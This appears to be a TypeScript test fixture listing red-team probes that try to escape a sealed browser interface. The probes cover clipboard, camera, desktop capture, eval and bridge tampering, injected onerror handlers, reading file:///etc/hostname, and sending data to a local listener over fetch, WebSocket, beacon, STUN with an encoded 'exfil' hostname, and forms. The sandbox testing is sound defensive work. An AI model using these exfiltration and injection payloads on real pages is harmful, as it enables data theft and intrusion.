/**
 * Ways out of a page that script may try, beside taking the picture itself (red-team corpus A10–A51).
 *
 * Each runs in the sealed interface and in an ordinary browser on an ordinary page. What it brings back there shows that
 * it would have brought something back here.
 */
export interface ScriptAttempt {
  /** Ids of the corpus and what is tried. */
  readonly title: string;
  /** Body of an async function of `place` (see `Place`). A value other than null, false, 0 or "" has got out. */
  readonly script: string;
  /** What an ordinary page gets; "nothing" where even that one is refused, so that only the sealed side says something. */
  readonly ordinary: "something" | "nothing";
}

/** Addresses that somebody listens on. */
export interface Place {
  /** `http://127.0.0.1:port`. */
  readonly http: string;
  /** The same over IPv6. */
  readonly http6: string;
  /** A port that counts datagrams. */
  readonly udp: number;
}

const wait = (ms: number): string => `await new Promise((done) => setTimeout(done, ${ms}));`;
const add = (tag: string, fields: string): string =>
  `{ const one = document.createElement("${tag}"); Object.assign(one, ${fields}); one.className = "attempt"; document.body.append(one); }`;
/** A small moving picture with its element, which belongs to the page itself. */
const ownVideo = `const drawn = document.createElement("canvas"); drawn.width = 64; drawn.height = 36; drawn.getContext("2d").fillRect(0, 0, 9, 9);
const video = document.createElement("video"); video.muted = true; video.className = "attempt"; video.srcObject = drawn.captureStream(30); document.body.append(video);
await Promise.race([video.play(), new Promise((done) => setTimeout(done, 1000))]);`;
/** What a promise came to: "refused" by the page's policy, "absent", or anything else. */
const cameTo = (call: string): string =>
  `const came = await Promise.race([(async () => { try { return await (${call}) ?? "given"; } catch (error) { return String(error?.name); } })(), new Promise((done) => setTimeout(done, 700, "asks"))]);`;

/** Attempts whose booty the script itself can see. */
export const scriptAttempts: readonly ScriptAttempt[] = [
  {
    title: "A15 print from the page, from an empty frame, from a written one and from a frame in a frame",
    script: `let printed = 0; const count = (of) => of.addEventListener("beforeprint", () => { printed += 1; });
count(window); try { print(); } catch {}
const empty = document.createElement("iframe"); empty.className = "attempt"; document.body.append(empty); count(empty.contentWindow); try { empty.contentWindow.print(); } catch {}
const inner = empty.contentDocument.body.appendChild(empty.contentDocument.createElement("iframe")); count(inner.contentWindow); try { inner.contentWindow.print(); } catch {}
const written = document.createElement("iframe"); written.className = "attempt"; try { written.srcdoc = "<p>x</p>"; } catch {} document.body.append(written); ${wait(300)} count(written.contentWindow); try { written.contentWindow.print(); } catch {}
${wait(300)} return printed;`,
    ordinary: "something",
  },
  {
    title: "A16 text and a picture to the clipboard, by the newer way",
    script: `let got = 0; try { await navigator.clipboard.writeText("out"); got += 1; } catch {}
try { const canvas = document.createElement("canvas"); canvas.width = 2; canvas.height = 2; const blob = await new Promise((done) => canvas.toBlob(done)); await navigator.clipboard.write([new ClipboardItem({ "image/png": blob })]); got += 1; } catch {}
try { await navigator.clipboard.read(); got += 1; } catch {} return got;`,
    ordinary: "something",
  },
  {
    title: "A16 words of the page to the clipboard, by the older way",
    script: `const words = document.createElement("p"); words.className = "attempt"; words.textContent = "words of a case"; document.body.append(words);
getSelection().selectAllChildren(words); let prevented = null; addEventListener("copy", (event) => { prevented = event.defaultPrevented; }, { once: true });
document.execCommand("copy"); getSelection().removeAllRanges(); return prevented === false;`,
    ordinary: "something",
  },
  {
    title: "A17 picture in picture, of a video and of the document",
    script: `${ownVideo} if (document.pictureInPictureEnabled) return true; try { await video.requestPictureInPicture(); return true; } catch {}
try { await documentPictureInPicture.requestWindow(); return true; } catch { return false; }`,
    ordinary: "something",
  },
  {
    title: "A18 cast the page or a video to another screen",
    script: `${ownVideo} let asked = 0; try { new PresentationRequest("https://example.invalid/"); asked += 1; } catch {}
try { const found = await new Promise((done) => { video.remote.watchAvailability(done).then(() => {}, () => done(false)); setTimeout(done, 500, false); }); asked += found ? 1 : 0; } catch {} return asked;`,
    ordinary: "something",
  },
  {
    title: "A19 share something with another program",
    script: `return typeof navigator.share === "function" && document.featurePolicy.allowsFeature("web-share") && navigator.canShare({ text: "out" });`,
    ordinary: "nothing",
  },
  {
    title: "A21 the desktop, by the old form of the camera request, with a guessed name and without",
    script: `let got = 0; for (const mandatory of [{ chromeMediaSource: "desktop" }, { chromeMediaSource: "desktop", chromeMediaSourceId: "screen:0:0" }, { chromeMediaSource: "tab" }]) {
${cameTo('navigator.mediaDevices.getUserMedia({ video: { mandatory } }).then((stream) => "taken " + stream.getTracks().length)')} got += came.startsWith("taken") ? 1 : 0; } return got;`,
    ordinary: "nothing",
  },
  {
    title: "A22 camera, microphone and their names",
    script: `let got = 0; for (const wish of [{ video: true }, { audio: true }]) { ${cameTo('navigator.mediaDevices.getUserMedia(wish).then((stream) => "taken " + stream.getTracks().length)')} got += came.startsWith("taken") ? 1 : 0; }
try { got += (await navigator.mediaDevices.enumerateDevices()).filter(({ label }) => label !== "").length; } catch {} return got;`,
    ordinary: "something",
  },
  {
    title: "A36 the constructor of functions, reached through the bridge, and eval",
    script: `let got = 0; const bridge = globalThis.workstation ?? { station: { status() {} } };
for (const take of [() => bridge.station.status.constructor("return this")(), () => bridge.constructor.constructor("return this")(), () => eval("this"), () => setTimeout("1") && false]) { try { if (take()) { got += 1; } } catch {} }
try { got += typeof process === "object" || typeof require === "function" ? 1 : 0; } catch {} return got;`,
    ordinary: "something",
  },
  {
    title: "A36 a way to change the bridge",
    script: `let got = 0; const bridge = globalThis.workstation ?? { station: { status() {} } };
for (const take of [() => { bridge.station.status = () => 1; return bridge.station.status() === 1; }, () => { bridge.extra = 1; return bridge.extra === 1; }, () => delete bridge.station, () => Object.defineProperty(globalThis, "workstation", { value: {} })]) { try { if (take()) { got += 1; } } catch {} } return got;`,
    ordinary: "something",
  },
  {
    title: "A38 styles, scripts and handlers that come as text of a recording's particulars",
    script: `const text = '<style>body { --stolen: yes }</style><p style="--stolen: yes" id="hostile">x</p><img src="x:" onerror="globalThis.ran = true"><svg onload="globalThis.ran = true"></svg>';
const home = document.createElement("div"); home.className = "attempt"; document.body.append(home);
try { home.innerHTML = text; } catch {} try { home.insertAdjacentHTML("beforeend", text); } catch {} try { document.write; home.setHTMLUnsafe(text); } catch {}
${wait(200)} const hostile = document.querySelector("#hostile");
return getComputedStyle(document.body).getPropertyValue("--stolen").trim() === "yes" || globalThis.ran === true || (hostile !== null && getComputedStyle(hostile).getPropertyValue("--stolen").trim() === "yes");`,
    ordinary: "something",
  },
  {
    title: "A47 a place to save to, or a folder to write in",
    script: `let asked = 0; for (const call of [() => showSaveFilePicker(), () => showDirectoryPicker({ mode: "readwrite" })]) { ${cameTo("call()")} asked += ["SecurityError", "ReferenceError", "TypeError", "NotAllowedError"].includes(came) ? 0 : 1; } return asked;`,
    ordinary: "something",
  },
  {
    title: "A48 a device to write to: USB, HID, serial, Bluetooth, MIDI",
    script: `let asked = 0; for (const call of [() => navigator.usb.requestDevice({ filters: [] }), () => navigator.hid.requestDevice({ filters: [] }), () => navigator.serial.requestPort(), () => navigator.requestMIDIAccess({ sysex: true })]) { ${cameTo("call()")} asked += ["SecurityError", "TypeError", "NotAllowedError", "ReferenceError"].includes(came) ? 0 : 1; } return asked;`,
    ordinary: "something",
  },
  {
    title: "A49 a notification",
    script: `${cameTo("Notification.requestPermission()")} return came === "granted";`,
    ordinary: "something",
  },
  {
    title: "A51 a shared worker, a service worker and a worker of the page's own text",
    script: `let got = 0; const text = URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(1); postMessage(1);"], { type: "text/javascript" }));
try { const worker = new SharedWorker(text); got += await new Promise((done) => { worker.port.onmessage = () => done(1); worker.onerror = () => done(0); setTimeout(done, 500, 0); }); } catch {}
try { const worker = new Worker(text); got += await new Promise((done) => { worker.onmessage = () => done(1); worker.onerror = () => done(0); setTimeout(done, 500, 0); }); } catch {}
try { await navigator.serviceWorker.register("./x.js"); got += (await navigator.serviceWorker.getRegistrations()).length; } catch {} return got;`,
    ordinary: "something",
  },
];

/** Attempts to which only the other end can testify. */
export const sendingAttempts: readonly ScriptAttempt[] = [
  {
    title: "A23 fetch, request, socket, event stream, beacon, picture, ping and report",
    script: `const { http, http6 } = place; const ws = http.replace("http", "ws");
for (const send of [() => fetch(http + "/f", { mode: "no-cors" }), () => fetch(http6 + "/f6", { mode: "no-cors" }), () => fetch(http + "/k", { mode: "no-cors", keepalive: true }),
() => { const one = new XMLHttpRequest(); one.open("POST", http + "/x"); one.send("x"); }, () => new WebSocket(ws), () => new EventSource(http + "/e"), () => navigator.sendBeacon(http + "/b", "x"),
() => { new Image().src = http + "/i"; }, () => { const link = document.createElement("a"); link.href = "#x"; link.ping = http + "/p"; link.className = "attempt"; document.body.append(link); link.click(); }, () => new WebTransport(http.replace("http", "https") + "/t")]) { try { Promise.resolve(send()).catch(() => {}); } catch {} }
${wait(1200)}`,
    ordinary: "something",
  },
  {
    title: "A24 a STUN server and a TURN server over TCP, and candidates of this machine",
    script: `const peer = new RTCPeerConnection({ iceServers: [{ urls: ["stun:127.0.0.1:" + place.udp, "stun:exfil-c2VjcmV0.localhost:" + place.udp] }, { urls: "turn:127.0.0.1:" + new URL(place.http).port + "?transport=tcp", username: "x", credential: "x" }] });
peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); ${wait(1500)} peer.close();`,
    ordinary: "something",
  },
  {
    title: "A25 look something up ahead: prefetch, preconnect, prerender, module, rules",
    script: `for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender", "modulepreload", "preload", "manifest", "icon", "stylesheet"]) ${add("link", "{ rel, href: place.http + '/' + rel, as: 'script' }")}
{ const rules = document.createElement("script"); rules.type = "speculationrules"; rules.className = "attempt"; try { rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [place.http + "/rules"], eagerness: "immediate" }] }); document.head.append(rules); } catch {} } ${wait(1200)}`,
    ordinary: "something",
  },
  {
    title: "A26 a form, a refresh, and addresses of script and data in a frame",
    script: `{ const form = document.createElement("form"); form.className = "attempt"; form.method = "post"; form.action = place.http + "/form"; const frame = document.createElement("iframe"); frame.name = "sink"; frame.className = "attempt"; document.body.append(frame, form); form.target = "sink"; form.submit(); }
for (const src of ["javascript:void(top.postMessage('ran','*'))", "data:text/html,<img src=" + place.http + "/data>", place.http + "/frame"]) { try { ${add("iframe", "{ src }")} } catch {} }
{ const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "9;url=" + place.http + "/refresh"; meta.className = "attempt"; document.head.append(meta); }
try { history.pushState({}, "", place.http + "/push"); } catch {} ${wait(1200)}`,
    ordinary: "something",
  },
  {
    title: "A27 files, source views and the browser's own pages, in frames and by fetch",
    script: `for (const src of ["file:///etc/hostname", "view-source:" + place.http + "/source", "chrome://gpu", "devtools://devtools/bundled/inspector.html", "about:version", "chrome-error://chromewebdata/", "blob:null/x", "filesystem:" + place.http + "/temporary/x"]) ${add("iframe", "{ src }")}
for (const url of ["file:///etc/hostname", "chrome://version"]) { try { const text = await (await fetch(url)).text(); await fetch(place.http + "/" + text.length); } catch {} } ${add("iframe", "{ src: place.http + '/control' }")} ${wait(900)}`,
    ordinary: "something",
  },
];

/** Expression for `page.evaluate`: what the attempt got, or null. Whatever it put on the page is taken away again. */
export function attemptScript({ script }: ScriptAttempt, place: Place): string {
  return `(async (place) => {
    // What runs in the debugger's own turn may evaluate text; a page's script may not.
    await new Promise((done) => setTimeout(done));
    try { return (await (async () => { ${script} })()) || null; }
    catch { return null; }
    finally { document.querySelectorAll(".attempt").forEach((one) => one.remove()); }
  })(${JSON.stringify(place)})`;
}
